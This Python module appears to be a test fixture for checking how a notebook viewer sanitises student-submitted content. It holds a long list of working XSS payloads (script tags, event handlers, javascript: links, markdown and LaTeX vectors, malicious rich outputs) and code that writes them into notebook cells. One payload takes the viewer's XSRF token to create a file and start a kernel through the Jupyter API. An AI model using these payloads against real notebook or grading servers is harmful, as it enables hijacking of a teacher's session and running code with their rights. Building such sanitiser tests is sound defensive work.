"""What a student could write to make a teacher's browser run it, or fetch something.

Whatever runs says `RAN` to the page's console. Each is one kind; the list is not to be thinned.
"""

from __future__ import annotations

from typing import Any

RUN = "console.log(/RAN/)"
ELSEWHERE = "http://elsewhere.test/"
"""A place that nobody's page has business with."""

_WITH_THE_TEACHERS_RIGHTS = """<script>
const token = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
const headers = {"Content-Type": "application/json", "X-XSRFToken": token};
fetch("/api/contents/PWNED.txt", {method: "PUT", headers,
    body: JSON.stringify({type: "file", format: "text", content: "x"})});
fetch("/api/kernels", {method: "POST", headers, body: "{}"});
console.log(/RAN/);
</script>"""

# Tags that run by themselves, wherever HTML is let through.
TAGS = [
    _WITH_THE_TEACHERS_RIGHTS,
    f"<script>{RUN}</script>",
    f"<script>{RUN}",
    f"<SCRIPT\n>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}\n>",
    f'<img src="x` `" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></animate></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='data:text/html,<script>{RUN}</script>'>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={RUN}>x</p>",
    f"<form id=x tabindex=0 onfocus={RUN} autofocus><input></form>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<p title='\"><img src=x onerror={RUN}>'>x</p>",
]
# Tags that fetch, restyle or lead away, with no script in them.
FETCHES = [
    f"<img src={ELSEWHERE}a.png>",
    f"<img srcset='{ELSEWHERE}b.png 1x'>",
    f"<link rel=stylesheet href={ELSEWHERE}c.css>",
    f"<style>@import '{ELSEWHERE}d.css';</style>",
    f"<p style='background:url({ELSEWHERE}e.png)'>x</p>",
    f"<table background={ELSEWHERE}f.png><tr><td>x</td></tr></table>",
    f"<video poster={ELSEWHERE}g.png></video>",
    f"<meta http-equiv=refresh content='9;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}>",
    f"<svg><image href={ELSEWHERE}h.png /></svg>",
]
# Links that run when they are followed.
LINKS = [
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href=' javascript&colon;{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a xlink:href='javascript:{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<svg><a href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<area href='javascript:{RUN}'>",
]
# The same by markdown alone.
MARKED = [
    f"[x](javascript:{RUN})",
    f"[x]( javascript:{RUN})",
    f"[x](java&#115;cript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    "[x](vbscript:x)",
    "[x](data:text/html,x)",
    f"![x](javascript:{RUN})",
    f"![x]({ELSEWHERE}i.png)",
    f"![x [y]]({ELSEWHERE}j.png)",
    f"![x][a]\n\n[a]: {ELSEWHERE}k.png",
    f"[![x]({ELSEWHERE}l.png)](https://example.org)",
    f"[x][a]\n\n[a]: javascript:{RUN}",
    f"> [x][a]\n>\n> [a]: javascript:{RUN}",
    f"- [x]\n\n  [x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"```\na\n\n[x](javascript:{RUN})\n```",
    f'```html"><img src=x onerror={RUN}>\nx\n```',
    f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    f"$$ x $$ <img src=x onerror={RUN}> $$ y $$",
    f"\\begin{{x}}<img src=x onerror={RUN}>\\end{{x}}",
    "![x](attachment:not-there.png)",
    "![x](<attachment:not there.png>)",
    "```mermaid\ngraph TD\nA-->B\n```",
]
# Formulas that make links or styles.
FORMULAS = [
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\style{{position:fixed;inset:0}}{{x}} \\href{{javascript:{RUN}}}{{y}}$$",
    f"$\\let\\x\\href \\x{{javascript:{RUN}}}{{y}}$",
    f"<p>$&#92;hre&#102;{{javascript:{RUN}}}{{x}}$</p>",
]
TEXTS = TAGS + FETCHES + LINKS + MARKED + FORMULAS


def outputs() -> list[dict[str, Any]]:
    """Rich outputs by type, each with something live in it."""
    script, picture = f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'>{script}</svg>"
    return [
        *({"text/html": text} for text in TAGS + FETCHES + LINKS),
        {"text/markdown": script},
        {"text/markdown": f"[x](javascript:{RUN}) {picture}"},
        {"text/latex": f"$x$ {picture}"},
        {"text/latex": FORMULAS[0]},
        {"image/svg+xml": svg},
        {"application/javascript": RUN},
        {"text/vnd.mermaid": f"graph TD\nA[{picture}]"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{script}"}},
        {"application/pdf": picture},
        {"image/png": f'">{picture}'},
        {"image/jpeg": f'x" onerror="{RUN}'},
        {"text/plain": picture},
    ]


def cells(notebook: Any) -> None:
    """Put all of it into a notebook's raw content, in cells of a student's own."""

    def add(kind: str, source: str, **more: Any) -> None:
        extra = {"outputs": [], "execution_count": None} if kind == "code" else {}
        number = f"live-{len(notebook['cells'])}"
        notebook["cells"].append(
            {"cell_type": kind, "id": number, "metadata": {}, "source": source, **extra, **more}
        )

    live = f"<script>{RUN}</script>"
    for text in TEXTS:
        if "not-there" not in text and "not there" not in text:  # Else no page is made in stock.
            add("markdown", text)
    attached = {"a.svg": {"image/svg+xml": "PHN2Zy8+"}, f'"><img src=x onerror={RUN}>.png': {}}
    add("markdown", "![a](attachment:a.svg)", attachments=attached)
    add("raw", live, metadata={"raw_mimetype": "text/html"})
    add("raw", live)
    add("code", f"# {live}", metadata={"tags": [f'"><img src=x onerror={RUN}>'], "title": live})
    add("code", f"print({live!r})")
    add("code", f"raise ValueError({live!r})")
    lines = "\n".join(f"display({data!r}, raw=True)" for data in outputs())
    sized = {"image/jpeg": {"width": f'"><script>{RUN}</script>'}}
    isolated = {"text/html": {"isolated": True}}
    add(
        "code",
        f"{lines}\ndisplay({{'image/jpeg': 'aGk='}}, raw=True, metadata={sized!r})\n"
        f"display({{'text/html': {live!r}}}, raw=True, metadata={isolated!r})",
    )
